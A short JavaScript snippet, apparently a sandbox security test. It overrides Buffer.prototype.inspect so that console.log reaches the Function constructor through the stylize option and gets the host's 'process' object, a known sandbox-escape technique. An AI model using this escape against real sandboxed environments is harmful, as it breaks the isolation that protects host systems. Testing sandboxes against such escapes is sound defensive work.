// methods of Buffer's prototype
Buffer.prototype.inspect = function (depth, options) { options.stylize.constructor('return process')(); };
console.log(Buffer.from('a'));
